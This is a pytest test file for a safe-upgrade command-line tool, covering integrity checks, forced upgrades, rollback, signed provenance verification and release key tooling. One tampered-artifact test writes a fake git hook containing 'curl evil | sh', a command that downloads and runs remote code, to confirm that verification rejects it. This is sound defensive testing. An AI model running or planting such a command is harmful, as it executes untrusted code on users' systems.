"""
Tests for the safe-upgrade command line.

Commands run through main() against a local release directory; logging
setup is patched so the tests do not reconfigure the root logger.
"""

import json
from unittest.mock import patch

import pytest
import yaml
from nacl.signing import SigningKey

from safe_upgrade.cli.upgradectl import (
    EXIT_FAILURE,
    EXIT_INTERRUPTED,
    EXIT_OK,
    EXIT_UNAVAILABLE,
    main,
)
from safe_upgrade.integrity.registry import load_hash_table
from safe_upgrade.integrity.provenance import load_provenance
from safe_upgrade.version import VersionMarker

from conftest import NEW_VERSION, OLD_VERSION, ScriptedInteraction, install_release


@pytest.fixture(autouse=True)
def quiet_logging():
    with patch('safe_upgrade.cli.upgradectl.configure_from_environment') as mock_configure:
        yield mock_configure


@pytest.fixture(autouse=True)
def clean_environment(monkeypatch):
    for name in ('MERGE_TOOL', 'SAFE_UPGRADE_RELEASE_DIR', 'SAFE_UPGRADE_TRUSTED_KEY'):
        monkeypatch.delenv(name, raising=False)


@pytest.fixture
def configured_root(project_root, trusted_keys):
    """Project whose upgrade.yaml trusts the test release key."""
    path = project_root / '.security-controls' / 'upgrade.yaml'
    path.write_text(yaml.safe_dump({'trusted_keys': dict(trusted_keys)}))
    return project_root


def run(root, release_dir, *args):
    return main(['--root', str(root), '--release-dir', str(release_dir), *args])


class TestCheckCommand:
    """Tests for `safe-upgrade check`."""

    def test_intact_installation(self, configured_root, release_dir, releases, capsys):
        install_release(configured_root, OLD_VERSION)

        assert run(configured_root, release_dir, 'check') == EXIT_OK
        out = capsys.readouterr().out
        assert f"Integrity report for version {OLD_VERSION}" in out
        assert out.count(' - intact') == 4

    def test_modified_file(self, configured_root, release_dir, releases, capsys):
        """Any non-intact file makes check exit 1."""
        install_release(configured_root, OLD_VERSION)
        (configured_root / '.git/hooks/pre-push').write_bytes(b'# local tweak\n')

        assert run(configured_root, release_dir, 'check') == EXIT_FAILURE
        assert ".git/hooks/pre-push - MODIFIED" in capsys.readouterr().out

    def test_json_report(self, configured_root, release_dir, releases, capsys):
        install_release(configured_root, OLD_VERSION)

        assert run(configured_root, release_dir, 'check', '--json') == EXIT_OK
        report = json.loads(capsys.readouterr().out)
        assert report['version'] == OLD_VERSION

    def test_unknown_version(self, configured_root, release_dir, releases, capsys):
        """Without a version marker nothing can be verified."""
        assert run(configured_root, release_dir, 'check') == EXIT_FAILURE
        assert "Cannot determine installed version" in capsys.readouterr().err

    def test_config_error(self, project_root, release_dir, capsys):
        (project_root / '.security-controls' / 'upgrade.yaml').write_text("verifier: gpg\n")

        assert run(project_root, release_dir, 'check') == EXIT_FAILURE
        assert "Configuration error" in capsys.readouterr().err


@pytest.mark.integration
class TestUpgradeCommands:
    """Tests for `safe-upgrade upgrade` and `safe-upgrade force`."""

    def test_force_upgrade(self, configured_root, release_dir, releases, capsys):
        install_release(configured_root, OLD_VERSION)
        (configured_root / '.git/hooks/pre-commit').write_bytes(b'# customised\n')

        with patch('safe_upgrade.cli.upgradectl.TerminalInteraction', return_value=ScriptedInteraction()):
            assert run(configured_root, release_dir, 'force', '--json') == EXIT_OK

        result = json.loads(capsys.readouterr().out)
        assert result['target_version'] == NEW_VERSION
        assert VersionMarker(configured_root).read_version() == NEW_VERSION

    def test_interrupt(self, configured_root, release_dir, capsys):
        with patch('safe_upgrade.cli.upgradectl.cmd_upgrade', side_effect=KeyboardInterrupt):
            assert run(configured_root, release_dir) == EXIT_INTERRUPTED
        assert "Interrupted" in capsys.readouterr().err

    def test_logging_options(self, configured_root, release_dir, quiet_logging):
        with patch('safe_upgrade.cli.upgradectl.cmd_upgrade', return_value=EXIT_OK):
            run(configured_root, release_dir, '-v', '--no-color')
        kwargs = quiet_logging.call_args[1]
        assert kwargs['verbose'] is True
        assert kwargs['use_colors'] is False


class TestRollbackCommand:

    def test_no_backups(self, configured_root, release_dir, capsys):
        assert run(configured_root, release_dir, 'rollback') == EXIT_FAILURE
        assert "No backups available" in capsys.readouterr().err


@pytest.mark.security
class TestVerifyProvenanceCommand:
    """Tests for `safe-upgrade verify-provenance`."""

    def test_verified(self, configured_root, release_dir, releases, capsys):
        artifact = releases.asset_path(NEW_VERSION, '.git/hooks/pre-push')

        assert run(configured_root, release_dir, 'verify-provenance', str(artifact), NEW_VERSION) == EXIT_OK
        assert "VERIFICATION PASSED" in capsys.readouterr().out

    def test_untrusted_signer(self, project_root, release_dir, releases, capsys):
        """A key that is not configured is a trust failure."""
        rogue = {'release': bytes(SigningKey.generate().verify_key).hex()}
        (project_root / '.security-controls' / 'upgrade.yaml').write_text(yaml.safe_dump({'trusted_keys': rogue}))
        artifact = releases.asset_path(NEW_VERSION, '.git/hooks/pre-push')

        assert run(project_root, release_dir, 'verify-provenance', str(artifact), NEW_VERSION) == EXIT_FAILURE
        assert "VERIFICATION FAILED" in capsys.readouterr().err

    def test_tampered_artifact(self, configured_root, release_dir, releases, temp_dir):
        artifact = temp_dir / 'pre-push'
        artifact.write_bytes(b'#!/bin/sh\ncurl evil | sh\n')

        assert run(configured_root, release_dir, 'verify-provenance', str(artifact), NEW_VERSION) == EXIT_FAILURE

    def test_provenance_unavailable(self, configured_root, release_dir, releases, capsys):
        releases.publish('0.8.0', sign=False)
        artifact = releases.asset_path('0.8.0', '.git/hooks/pre-push')

        assert run(configured_root, release_dir, 'verify-provenance', str(artifact), '0.8.0') == EXIT_UNAVAILABLE
        assert "Provenance unavailable" in capsys.readouterr().err

    def test_local_provenance_file_missing(self, configured_root, release_dir, releases, temp_dir):
        artifact = releases.asset_path(NEW_VERSION, '.git/hooks/pre-push')
        args = ('verify-provenance', str(artifact), NEW_VERSION, '--provenance', str(temp_dir / 'none.jsonl'))

        assert run(configured_root, release_dir, *args) == EXIT_UNAVAILABLE

    def test_missing_artifact(self, configured_root, release_dir, temp_dir):
        args = ('verify-provenance', str(temp_dir / 'nope'), NEW_VERSION)
        assert run(configured_root, release_dir, *args) == EXIT_FAILURE

    def test_slsa_verifier_offered_when_missing(self, project_root, release_dir, releases, capsys):
        """The slsa-verifier backend offers an install before verifying."""
        (project_root / '.security-controls' / 'upgrade.yaml').write_text("verifier: slsa-verifier\n")
        artifact = releases.asset_path(NEW_VERSION, '.git/hooks/pre-push')

        with patch('safe_upgrade.cli.upgradectl.ensure_slsa_verifier', return_value=None) as mock_ensure, \
                patch('safe_upgrade.integrity.provenance.subprocess.run', side_effect=FileNotFoundError):
            code = run(project_root, release_dir, 'verify-provenance', str(artifact), NEW_VERSION)

        assert code == EXIT_FAILURE
        mock_ensure.assert_called_once()
        assert "not installed" in capsys.readouterr().err


class TestReleaseTooling:
    """Tests for generate-hashes, sign-provenance and keygen."""

    def test_keygen(self, temp_dir, capsys):
        key_path = temp_dir / 'keys' / 'release.key'

        assert main(['keygen', '--output', str(key_path)]) == EXIT_OK
        assert len(key_path.read_text()) == 64
        assert key_path.stat().st_mode & 0o777 == 0o600
        public_key = (temp_dir / 'keys' / 'release.key.pub').read_text().strip()
        assert public_key in capsys.readouterr().out

    def test_keygen_refuses_overwrite(self, temp_dir):
        key_path = temp_dir / 'release.key'
        key_path.write_text('existing')

        assert main(['keygen', '--output', str(key_path)]) == EXIT_FAILURE
        assert key_path.read_text() == 'existing'
        assert main(['keygen', '--output', str(key_path), '--force']) == EXIT_OK
        assert key_path.read_text() != 'existing'

    def test_generate_hashes(self, configured_root, temp_dir):
        install_release(configured_root, OLD_VERSION)
        output = temp_dir / 'hashes.json'

        code = main(['--root', str(configured_root), 'generate-hashes', OLD_VERSION,
                     '--format', 'json', '--output', str(output)])

        assert code == EXIT_OK
        table = load_hash_table(output)
        assert '.security-controls/bin/pinactlite' in table[OLD_VERSION]

    def test_generate_hashes_bad_version(self, configured_root, temp_dir):
        code = main(['--root', str(configured_root), 'generate-hashes', 'v0.7.0',
                     '--output', str(temp_dir / 'out.yaml')])
        assert code == EXIT_FAILURE

    def test_sign_provenance(self, configured_root, temp_dir, signing_key, release_dir, trusted_keys):
        """Provenance written by the CLI verifies with the configured key."""
        key_path = temp_dir / 'release.key'
        key_path.write_text(bytes(signing_key).hex())
        dist = temp_dir / 'dist'
        dist.mkdir()
        (dist / 'pre-push').write_bytes(b'hook')
        (dist / 'pinactlite').write_bytes(b'binary')

        code = main(['--root', str(configured_root), 'sign-provenance', NEW_VERSION,
                     '--dir', str(dist), '--key', str(key_path)])

        assert code == EXIT_OK
        statements = load_provenance(dist / 'multiple.intoto.jsonl')
        assert {s.name for s in statements[0].subjects} == {'pre-push', 'pinactlite'}

        artifact = dist / 'pre-push'
        assert run(configured_root, release_dir, 'verify-provenance', str(artifact), NEW_VERSION,
                   '--provenance', str(dist / 'multiple.intoto.jsonl')) == EXIT_OK
